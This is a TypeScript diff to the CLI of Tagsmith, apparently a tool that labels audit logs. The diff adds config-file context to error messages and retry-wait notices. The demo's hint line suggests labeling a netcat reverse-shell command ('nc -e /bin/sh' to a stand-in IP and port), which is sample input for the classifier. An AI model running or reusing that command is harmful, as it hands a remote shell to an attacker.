@@ -1,6 +1,7 @@
 import { join } from "node:path";
 import { type Config, configSchema } from "../config/config-schema.ts";
 import { loadConfig, parseWith } from "../config/load-config.ts";
+import { TagsmithError } from "../event/tagsmith-error.ts";
 import { runPipeline } from "../pipeline/wire.ts";
 import type { ConnectorRegistry } from "./connector-registry.ts";
 import { exitCodes } from "./exit-code.ts";
@@ -9,7 +10,7 @@ import { bundled } from "./paths.ts";
 import { createProgress } from "./progress.ts";
 import { addToSummary, createRunSummary, summaryJson, summaryText } from "./run-summary.ts";
 import { stopOnSignals } from "./stop-on-signals.ts";
-import type { Terminal } from "./terminal.ts";
+import { oneLine, type Terminal } from "./terminal.ts";
 
 interface RunOptions {
   readonly json: boolean;
@@ -23,7 +24,7 @@ export function runCommand(
   registry: ConnectorRegistry,
   terminal: Terminal,
 ): Promise<number> {
-  return runConfig(loadConfig(configPath), options, registry, terminal);
+  return runConfig({ config: loadConfig(configPath), file: configPath }, options, registry, terminal);
 }
 
 /** `tagsmith demo`: the bundled samples through the whole pipeline into `folder`. */
@@ -46,7 +47,7 @@ export async function demoCommand(
   const config = parseWith(configSchema, value, "demo", "");
   const isSilent = options.json || options.quiet;
   if (!isSilent) terminal.out.write("Tagsmith labels its bundled sample audit logs.\n\n");
-  const code = await runConfig(config, options, registry, terminal);
+  const code = await runConfig({ config, file: "demo" }, options, registry, terminal);
   if (!isSilent)
     terminal.out.write(
       `\nWritten: ${files.labels}, ${files.verdicts}\nTry: npx tagsmith label 'nc -e /bin/sh 203.0.113.10 4444'\n`,
@@ -55,7 +56,7 @@ export async function demoCommand(
 }
 
 async function runConfig(
-  config: Config,
+  { config, file }: { readonly config: Config; readonly file: string },
   options: RunOptions,
   registry: ConnectorRegistry,
   terminal: Terminal,
@@ -64,7 +65,9 @@ async function runConfig(
   const stop = stopOnSignals(process, terminal.now, () => {
     if (!isSilent) terminal.err.write("\nStopping: what was read is finished and stored. Ctrl-C again ends at once.\n");
   });
-  const pipeline = await openPipeline(config, registry);
+  const pipeline = await openPipeline(config, registry).catch((error: unknown) => {
+    throw inFile(error, file);
+  });
   const { counts } = pipeline.parts;
   const summary = createRunSummary();
   const progress = createProgress({
@@ -73,6 +76,10 @@ async function runConfig(
     enabled: !isSilent,
   });
   const started = terminal.now();
+  const onWait: NonNullable<typeof pipeline.parts.onWait> = ({ code, message }, waitMs) => {
+    const again = `Trying again in ${(waitMs / 1000).toFixed(1)} s.`;
+    terminal.err.write(`${oneLine(`tagsmith: ${code}: ${message} ${again}`)}\n`);
+  };
   const onStep: NonNullable<typeof pipeline.parts.onStep> = ({ batch }, output) => {
     addToSummary(summary, output);
     const seconds = Math.max(0.001, (terminal.now() - started) / 1000);
@@ -80,7 +87,7 @@ async function runConfig(
     if (batch.progress) progress.update(batch.progress.done, batch.progress.total, batch.progress.unit, rate);
   };
   try {
-    await runPipeline({ ...pipeline.parts, onStep }, stop.signal);
+    await runPipeline({ ...pipeline.parts, onStep, onWait }, stop.signal);
   } catch (error) {
     if (!stop.isReasonOf(error)) throw error;
   } finally {
@@ -92,4 +99,11 @@ async function runConfig(
   if (options.json) terminal.out.write(`${JSON.stringify(summaryJson(summary, counts, seconds))}\n`);
   else if (!options.quiet) terminal.out.write(summaryText(summary, counts, seconds));
   return stop.signal.aborted ? exitCodes.interrupted : exitCodes.ok;
+}
+
+/** A connector knows its settings, not the file they stand in. */
+function inFile(error: unknown, file: string): unknown {
+  if (!(error instanceof TagsmithError) || error.code !== "config_invalid") return error;
+  const lines = error.message.split("\n").map((line) => `${file}: ${line}`);
+  return new TagsmithError(error.code, lines.join("\n"), error.remedy, error.cause);
 }
